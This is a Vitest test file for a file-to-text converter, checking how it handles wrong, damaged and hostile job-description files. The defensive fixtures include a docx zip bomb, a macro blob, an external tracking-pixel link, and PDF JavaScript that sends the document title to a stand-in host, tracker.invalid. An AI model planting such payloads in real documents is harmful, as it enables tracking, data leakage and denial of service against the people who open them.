import { strToU8, unzipSync, zipSync } from "fflate";
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { createNodeOcr } from "../../scripts/lib/node-ocr.ts";
import { convertFile, MAX_FILE_BYTES, toSourceFile } from "../../src/convert/index.ts";
import type { ConvertResult } from "../../src/convert/index.ts";
import { PROBLEMS } from "../../src/convert/messages.ts";
import { extractGraph } from "../../src/core/extract/index.ts";
import { buildPdf } from "./pdf-builder.ts";
import { readFixture } from "./helpers.ts";

/*
 * Files a user may pick by mistake or that arrive damaged or hostile: each gets a plain message
 * naming what to do, nothing throws, and nothing is fetched.
 */

const fetchSpy = vi.fn(() => Promise.reject(new Error("no network in conversion")));
beforeEach(() => vi.stubGlobal("fetch", fetchSpy));
afterEach(() => {
  vi.unstubAllGlobals();
  expect(fetchSpy).not.toHaveBeenCalled();
  fetchSpy.mockClear();
});

function expectProblem(result: ConvertResult, code: keyof typeof PROBLEMS): void {
  expect(result).toMatchObject({ ok: false, code, message: PROBLEMS[code] });
}

/** A fixture .docx with parts replaced or added. */
function alteredDocx(parts: Record<string, Uint8Array>): Uint8Array {
  const original = unzipSync(readFixture("docx/hc-director-strategic-planning.docx"));
  return zipSync({ ...original, ...parts });
}

describe("formats that are refused with what to do", () => {
  it.each([
    ["bad/legacy-word.doc", "legacy-word"],
    ["bad/rich-text.rtf", "rich-text"],
    ["bad/open-document.odt", "open-document"],
    ["bad/password-protected.pdf", "password-protected"],
    ["bad/truncated.pdf", "corrupt-pdf"],
    ["bad/corrupt.docx", "corrupt-docx"],
  ] as const)("%s: %s", async (path, code) => {
    const result = await convertFile(path.split("/")[1] ?? path, readFixture(path));
    expectProblem(result, code);
    if (!result.ok) expect(result.message).toMatch(/\.$/);
  });

  it("says .doc, .rtf and .odt should be saved as .docx or PDF", () => {
    for (const code of ["legacy-word", "rich-text", "open-document"] as const)
      expect(PROBLEMS[code]).toContain("Save it as .docx or PDF and open it again");
  });

  it("reads a renamed file for what it is: a Word file named .pdf, a .doc named .docx", async () => {
    const word = await convertFile(
      "renamed.pdf",
      readFixture("docx/hc-director-strategic-planning.docx"),
    );
    expect(word).toMatchObject({ ok: true, format: "docx" });
    expectProblem(await convertFile("old.docx", readFixture("bad/legacy-word.doc")), "legacy-word");
  });

  it("an empty file, a zip of documents, an unknown type, a file over 50 MB", async () => {
    expectProblem(await convertFile("empty.pdf", new Uint8Array()), "empty-file");
    const zip = zipSync({ "a.md": strToU8("# Director\n") });
    expectProblem(await convertFile("documents.zip", zip), "zip-archive");
    expectProblem(await convertFile("chart.svg", strToU8("<svg></svg>")), "unsupported-type");
    const huge = new Uint8Array(MAX_FILE_BYTES + 1);
    huge.set(strToU8("%PDF-1.7\n"));
    expectProblem(await convertFile("huge.pdf", huge), "too-large");
  });

  it("a PDF of more than 300 pages", async () => {
    const pages = Array.from({ length: 301 }, (_, i) => [`Page ${i + 1}`]);
    expectProblem(await convertFile("binder.pdf", buildPdf({ pages })), "too-many-pages");
  });

  it("a scan when no OCR engine is given", async () => {
    expectProblem(
      await convertFile("scan.pdf", readFixture("scan/esdc-director-ei-processing.scan.pdf")),
      "ocr-unavailable",
    );
    expectProblem(
      await convertFile("photo.png", readFixture("image/cra-manager-domestic-collections.png")),
      "ocr-unavailable",
    );
  });
});

describe("hostile Word files", () => {
  it("refuses a zip bomb before inflating it", async () => {
    // 40 MB of one character compresses about 1000:1.
    const bomb = alteredDocx({ "word/document.xml": new Uint8Array(40_000_000).fill(0x20) });
    expect(bomb.byteLength).toBeLessThan(1_000_000);
    expectProblem(await convertFile("bomb.docx", bomb), "zip-bomb");
  });

  it("ignores macros (a .docm renamed .docx) and never fetches a linked picture", async () => {
    const original = unzipSync(readFixture("docx/hc-director-strategic-planning.docx"));
    const decoder = new TextDecoder();
    const rels = decoder
      .decode(original["word/_rels/document.xml.rels"])
      .replace(
        "</Relationships>",
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://tracker.invalid/pixel.png" TargetMode="External"/></Relationships>',
      );
    const picture =
      '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX"/></v:shape></w:pict></w:r></w:p>';
    const document = decoder
      .decode(original["word/document.xml"])
      .replace("<w:body>", `<w:body>${picture}`);
    const hostile = alteredDocx({
      "word/_rels/document.xml.rels": strToU8(rels),
      "word/document.xml": strToU8(document),
      "word/vbaProject.bin": new Uint8Array(2048).fill(7),
    });
    const result = await convertFile("hostile.docx", hostile);
    if (!result.ok) throw new Error(result.message);
    expect(result.warnings).toEqual(["It contains macros; they were ignored."]);
    expect(result.text).toContain("- **Title:** Director, Strategic Planning");
    expect(result.text).not.toContain("tracker.invalid");
  });
});

describe("hostile and odd PDFs", () => {
  it("reads the text of a PDF with a JavaScript action and a link, running and fetching nothing", async () => {
    const pdf = buildPdf({
      pages: [["Position Title: Director, Data Services", "Reports To: Chief Data Officer"]],
      openActionJavaScript: "fetch('http://tracker.invalid/'+document.title)",
      linkUri: "http://tracker.invalid/click",
    });
    const result = await convertFile("actions.pdf", pdf);
    expect(result).toMatchObject({
      ok: true,
      format: "pdf",
      text: "Position Title: Director, Data Services\nReports To: Chief Data Officer",
    });
  });

  it("stops when cancelled, with a message", async () => {
    const controller = new AbortController();
    controller.abort();
    const pdf = readFixture("pdf/hc-director-strategic-planning.pdf");
    expectProblem(await convertFile("a.pdf", pdf, { signal: controller.signal }), "cancelled");
    const later = new AbortController();
    const result = await convertFile("b.pdf", pdf, {
      signal: later.signal,
      onProgress: (p) => {
        if (p.step === "page" && p.page === 2) later.abort();
      },
    });
    expectProblem(result, "cancelled");
  });
});

describe("with OCR", () => {
  const ocr = createNodeOcr(1);
  afterAll(async () => (await ocr).terminate());

  it("an image without words has no text", async () => {
    const result = await convertFile("wall.jpg", readFixture("bad/no-text.jpg"), {
      ocr: await ocr,
    });
    expectProblem(result, "no-text");
  }, 60_000);

  it("a damaged image is reported, not thrown", async () => {
    const png = readFixture("image/cra-manager-domestic-collections.png").slice(0, 400);
    expectProblem(await convertFile("cut.png", png, { ocr: await ocr }), "corrupt-image");
  }, 60_000);
});

describe("in the graph", () => {
  it("lists a file that was not read, with the reason, and still charts the others", async () => {
    const files = [
      ["legacy-word.doc", readFixture("bad/legacy-word.doc")],
      ["hc.docx", readFixture("docx/hc-director-strategic-planning.docx")],
    ] as const;
    const sources = [];
    for (const [name, bytes] of files)
      sources.push(toSourceFile(bytes, await convertFile(name, bytes)));
    const graph = extractGraph(sources);
    const refused = graph.documents.find((d) => d.file === "legacy-word.doc");
    expect(refused).toMatchObject({ status: "unparsed", reason: PROBLEMS["legacy-word"] });
    expect(graph.diagnostics).toContainEqual(
      expect.objectContaining({
        code: "not-converted",
        severity: "warning",
        message: `legacy-word.doc was not read: ${PROBLEMS["legacy-word"]}`,
      }),
    );
    expect(graph.nodes.map((n) => n.title)).toContain("Director, Strategic Planning");
  });
});
